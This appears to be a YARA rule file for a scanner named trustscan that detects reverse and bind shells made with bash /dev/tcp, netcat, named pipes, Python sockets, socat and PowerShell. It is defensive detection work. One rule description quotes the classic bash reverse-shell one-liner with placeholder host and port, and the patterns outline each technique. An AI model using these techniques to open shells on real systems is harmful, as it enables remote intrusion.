// Reverse and bind shells: code that hands a shell to a remote peer. Written for trustscan;
// conditions combine several indicators so ordinary networking code does not match.

rule TS_RevShell_DevTcpRedirect {
  meta:
    description = "Shell redirection to /dev/tcp or /dev/udp (bash network socket), the classic 'bash -i >& /dev/tcp/HOST/PORT 0>&1' reverse shell"
    severity = "high"
    category = "reverse-shell"
  strings:
    $devtcp = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-{}$]{1,253}\/[0-9{}$][0-9A-Za-z_{}$]{0,20}/
  condition:
    $devtcp
}

rule TS_RevShell_NetcatExec {
  meta:
    description = "netcat/ncat started with -e/-c to attach a shell to a network connection"
    severity = "high"
    category = "reverse-shell"
  strings:
    $nc = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?(\s+[-\w.:]{1,64}){0,6}\s+-[a-z]{0,3}[ec]\s*["']?(\/usr)?\/bin\/(ba|z|da|k)?sh\b/
    $nc_win = /\b(nc|ncat)(\.exe)?(\s+[-\w.:]{1,64}){0,6}\s+-[a-z]{0,3}e\s*["']?cmd(\.exe)?\b/ nocase
  condition:
    any of them
}

rule TS_RevShell_NamedPipeRelay {
  meta:
    description = "Named pipe (mkfifo/mknod) relaying an interactive shell through netcat, telnet or openssl"
    severity = "high"
    category = "reverse-shell"
  strings:
    $fifo = /\b(mkfifo\s+|mknod\s+)[\w.\/]{1,128}/
    $relay = /\b(nc|ncat|netcat|telnet|openssl\s+s_client)\s/ private
    $shell = /(\/bin\/)?(ba|z|da)?sh\s+-i\b/ private
  condition:
    $fifo and $relay and $shell
}

rule TS_RevShell_PythonSocketShell {
  meta:
    description = "Python code connecting a socket and binding a shell to it (os.dup2 of the socket's descriptor, pty.spawn, or subprocess with the socket as stdin/stdout)"
    severity = "high"
    category = "reverse-shell"
  strings:
    $connect = /\.connect\(\s*\(\s*["'\w]/
    $dup2 = /\bdup2\(\s*\w+\.fileno\(\)/ private
    $pty = /\bpty\.spawn\(/ private
    $fileno_io = /\bstd(in|out|err)\s*=\s*\w+\.fileno\(\)/ private
    $sh = /["'](\/usr)?\/bin\/(ba|z|da|k)?sh["' ]/ private
    $cmd = /["']cmd(\.exe)?["']/ nocase private
  condition:
    $connect and (
      ($dup2 and ($sh or $cmd or $pty)) or
      ($pty and $sh) or
      ($fileno_io and ($sh or $cmd))
    )
}

rule TS_RevShell_PythonBindShell {
  meta:
    description = "Python bind shell: a listening socket whose accepted connection gets a shell (dup2 or subprocess on the connection's descriptor)"
    severity = "high"
    category = "reverse-shell"
  strings:
    $bind = /\.bind\(\s*\(\s*["'\w]/
    $accept = ".accept()" private
    $dup2 = /\bdup2\(\s*\w+\.fileno\(\)/ private
    $fileno_io = /\bstd(in|out|err)\s*=\s*\w+\.fileno\(\)/ private
    $pty = /\bpty\.spawn\(/ private
    $sh = /["'](\/usr)?\/bin\/(ba|z|da|k)?sh["' ]/ private
    $cmd = /["']cmd(\.exe)?["']/ nocase private
  condition:
    $bind and $accept and ($dup2 or $fileno_io or $pty) and ($sh or $cmd)
}

rule TS_RevShell_SocatExec {
  meta:
    description = "socat joining a TCP connection to an executed shell"
    severity = "high"
    category = "reverse-shell"
  strings:
    $socat = /\bsocat\s[^\n]{0,200}(exec|system):["']?(\/bin\/)?(ba|z|da)?sh\b/ nocase
    $socat_rev = /\bsocat\s[^\n]{0,200}\btcp[46]?(-connect|-listen)?:/ nocase
    $exec = /\b(exec|system):["']?(\/bin\/)?(ba|z|da)?sh\b/ nocase private
  condition:
    ($socat and $socat_rev) or ($socat_rev and $exec)
}

rule TS_RevShell_PowerShellTcpClient {
  meta:
    description = "PowerShell reverse shell: a TCPClient stream whose received bytes are run with Invoke-Expression"
    severity = "high"
    category = "reverse-shell"
  strings:
    $client = /Net\.Sockets\.TCPClient\(/ nocase
    $stream = ".GetStream()" nocase private
    $iex = /\b(iex|Invoke-Expression)\b/ nocase private
  condition:
    $client and $stream and $iex
}
